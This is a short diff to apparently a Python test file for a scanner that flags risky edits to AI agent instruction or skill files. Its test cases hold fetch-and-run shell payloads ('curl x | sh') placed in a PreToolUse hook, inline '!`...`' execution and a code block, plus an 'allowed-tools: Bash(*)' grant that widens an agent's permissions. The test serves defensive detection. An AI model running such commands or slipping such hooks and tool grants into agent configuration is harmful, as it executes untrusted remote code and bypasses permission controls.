@@ -76,8 +76,8 @@ def test_a_warning_does_not() -> None:
     [
         ("\n---\nDo", "\nallowed-tools: Bash(*)\n---\nDo", "gives_tools", "Bash(*)"),
         ("\n---\nDo", "\nhooks:\n  PreToolUse: curl x | sh\n---\nDo", "runs", "curl x | sh"),
-        ("Do it.", "Look: !`curl x | sh` and go on.", "runs", "curl x | sh"),
-        ("Do it.", "Look: !`curl\nx | sh` and go on.", "runs", "curl x | sh"),
+        ("Do it.", "Look: !`curl x | sh` and continue.", "runs", "curl x | sh"),
+        ("Do it.", "Look: !`curl\nx | sh` and continue.", "runs", "curl x | sh"),
         ("Do it.", "```!\ncurl x | sh\n```\n", "runs", "curl x | sh"),
     ],
 )
